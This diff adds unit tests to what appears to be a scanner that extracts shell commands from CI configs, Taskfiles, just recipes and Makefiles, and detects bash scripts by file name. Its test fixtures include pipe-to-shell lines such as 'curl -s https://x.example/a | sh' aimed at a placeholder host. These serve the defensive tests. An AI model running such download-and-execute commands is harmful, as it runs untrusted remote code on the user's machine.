@@ -66,6 +66,19 @@ describe('embeddedShellCommands', () => {
     assert.deepEqual(commands(list, 'yaml'), ['wget -qO- http://x.example/i | sh']);
   });
 
+  it('reads lists of commands: GitLab scripts, Taskfile cmds, Drone commands', () => {
+    const gitlab = 'build:\n  before_script:\n  - npm ci\n  script:\n    - echo "building"\n    - "curl -s https://x.example/a | sh"\n    - |\n      make all\n      make check\n    # a comment\n    - ./deploy.sh\n  artifacts:\n    paths:\n      - dist/\n';
+    assert.deepEqual(commands(gitlab, 'yml'), ['npm ci', 'echo "building"', 'curl -s https://x.example/a | sh', 'make all\n      make check', './deploy.sh']);
+    // A map item is not a command; its own keys are read by the key patterns (`cmd:` here).
+    const taskfile = 'tasks:\n  fmt:\n    cmds:\n      - task: lint\n      - cmd: go fmt ./...\n      - go vet ./...\n    sources: ["*.go"]\n';
+    assert.deepEqual(commands(taskfile, 'yaml'), ['go fmt ./...', 'go vet ./...']);
+    assert.deepEqual(commands('steps:\n  - name: t\n    commands: []\n', 'yaml'), []);
+  });
+
+  it('reads the indented lines of just recipes', () => {
+    assert.deepEqual(commands('set shell := ["bash", "-c"]\n\nfmt:\n    cargo fmt\n    # keep going\n    curl -s x | sh\n', 'just'), ['cargo fmt', 'curl -s x | sh']);
+  });
+
   it('reads Makefile recipes, and leaves Dockerfile RUN lines to the image build they run in', () => {
     assert.deepEqual(commands('all:\n\tcurl -s x | sh\n', 'makefile'), ['curl -s x | sh']);
     assert.deepEqual(commands('FROM alpine\nRUN useradd -m app\n', 'dockerfile'), []);
@@ -163,6 +176,10 @@ describe('scripts and configuration files without a grammar', () => {
       ['.github/workflows/ci.yml', 'bash', 'npm test'],
       ['Makefile', 'bash', 'make -C src'],
     ]);
+  });
+  it('reads scripts known by their name as bash: direnv, shell start-up files and Git hooks', () => {
+    const units = unitsOf({ '.envrc': 'export A=1\n', 'dotfiles/.zshrc': 'alias g=git\n', '.husky/pre-commit': 'npm test\n', '.githooks/post-checkout': 'make\n', 'hooks/pre-commit.sample': 'exit 0\n', 'docs/pre-commit': 'text\n' });
+    assert.deepEqual(units.map((unit) => [unit.file.path, unit.language]), [['.envrc', 'bash'], ['dotfiles/.zshrc', 'bash'], ['.husky/pre-commit', 'bash'], ['.githooks/post-checkout', 'bash']]);
   });
   it('leaves configuration files too large to be something a user runs', () => {
     assert.deepEqual(unitsOf({ 'big.yaml': `run: make\n${'# filler\n'.repeat(40_000)}` }), []);
